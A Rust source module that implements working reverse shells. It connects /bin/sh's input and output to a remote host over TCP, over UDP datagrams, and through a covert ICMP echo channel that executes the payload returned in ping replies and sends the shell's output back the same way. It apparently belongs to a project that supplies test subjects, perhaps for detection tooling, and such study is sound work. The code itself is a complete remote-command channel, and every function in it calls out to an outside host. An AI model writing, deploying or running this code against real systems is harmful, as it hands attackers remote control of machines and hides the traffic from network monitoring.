//! Shells on pipes, with a relay that holds the connection.

use crate::{Outcome, failed};
use rustix::net::{AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, ipproto, recv, sendto, socket_with};
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::thread;

fn shell() -> Result<(Child, ChildStdin, ChildStdout), String> {
    let mut child = Command::new("/bin/sh")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .map_err(failed("/bin/sh"))?;
    match (child.stdin.take(), child.stdout.take()) {
        (Some(stdin), Some(stdout)) => Ok((child, stdin, stdout)),
        _ => Err("/bin/sh: no pipes".into()),
    }
}

/// TCP socket ⇄ two pipes ⇄ shell.
pub fn pipes(spec: &str) -> Outcome {
    let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
    let mut socket = TcpStream::connect(addr).map_err(failed(spec))?;
    let (mut child, mut stdin, mut stdout) = shell()?;
    let mut answers = socket.try_clone().map_err(failed("dup"))?;
    let back = thread::spawn(move || io::copy(&mut stdout, &mut answers).map(drop));
    // Either side may hang up first; both are the end of the session, not a failure.
    drop(io::copy(&mut socket, &mut stdin));
    drop(stdin);
    drop(back.join());
    child.wait().map(drop).map_err(failed("wait"))
}

/// The same over datagrams: sendto and recvfrom on an unconnected socket. `greeting` is sent first; an echo
/// service returns it, and the shell runs it.
pub fn udp(spec: &str, greeting: &str) -> Outcome {
    let addr = subjects::addr::resolve(spec).map_err(|err| err.to_string())?;
    let any: SocketAddr = if addr.is_ipv6() { ([0_u16; 8], 0).into() } else { ([0_u8; 4], 0).into() };
    let socket = UdpSocket::bind(any).map_err(failed("bind"))?;
    socket.send_to(format!("{greeting}\n").as_bytes(), addr).map_err(failed(spec))?;
    let (mut child, mut stdin, mut stdout) = shell()?;
    let back = socket.try_clone().map_err(failed("dup"))?;
    thread::spawn(move || -> io::Result<()> {
        let mut buffer = [0; 1024];
        loop {
            let read = stdout.read(&mut buffer)?;
            if read == 0 {
                return Ok(());
            }
            back.send_to(&buffer[..read], addr)?;
        }
    });
    let mut buffer = [0; 1024];
    loop {
        let (read, from) = socket.recv_from(&mut buffer).map_err(failed("recvfrom"))?;
        // A shell that has exited is the end of the session.
        if from != addr || stdin.write_all(&buffer[..read]).is_err() {
            break;
        }
    }
    child.wait().map(drop).map_err(failed("wait"))
}

/// An ICMP echo request: type 8, code 0, checksum, our identifier, sequence number 0.
fn echo_request(payload: &[u8]) -> Vec<u8> {
    let mut packet = vec![8, 0, 0, 0, ICMP_ID[0], ICMP_ID[1], 0, 0];
    packet.extend_from_slice(payload);
    if packet.len() % 2 == 1 {
        packet.push(b'\n');
    }
    let words = packet.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let sum = u16::try_from(sum).unwrap_or(0);
    packet[2..4].copy_from_slice(&(!sum).to_be_bytes());
    packet
}

/// Tells this program's echoes from others'.
const ICMP_ID: [u8; 2] = *b"lx";

/// The same over ICMP echo: any host answers with what was sent, so `greeting` comes back and is run.
pub fn icmp(host: &str, greeting: &str) -> Outcome {
    let addr = subjects::addr::resolve(&format!("{host}:0")).map_err(|err| err.to_string())?;
    let socket = socket_with(AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::ICMP))
        .map_err(failed("raw socket"))?;
    let (mut child, mut stdin, mut stdout) = shell()?;
    let request = echo_request(format!("{greeting}\n").as_bytes());
    sendto(&socket, &request, SendFlags::empty(), &addr).map_err(failed(host))?;
    let mut buffer = [0; 2048];
    loop {
        let (read, _) = recv(&socket, &mut buffer[..], RecvFlags::empty()).map_err(failed("recv"))?;
        let header = usize::from(buffer[0] & 15) * 4;
        let packet = buffer.get(header..read).unwrap_or_default();
        if packet.len() > 8 && packet[0] == 0 && packet[4..6] == ICMP_ID {
            // A shell that has exited is the end of the session.
            drop(stdin.write_all(&packet[8..]));
            break;
        }
    }
    drop(stdin);
    let mut said = Vec::new();
    stdout.read_to_end(&mut said).map_err(failed("read"))?;
    sendto(&socket, &echo_request(&said), SendFlags::empty(), &addr).map_err(failed(host))?;
    child.wait().map(drop).map_err(failed("wait"))
}
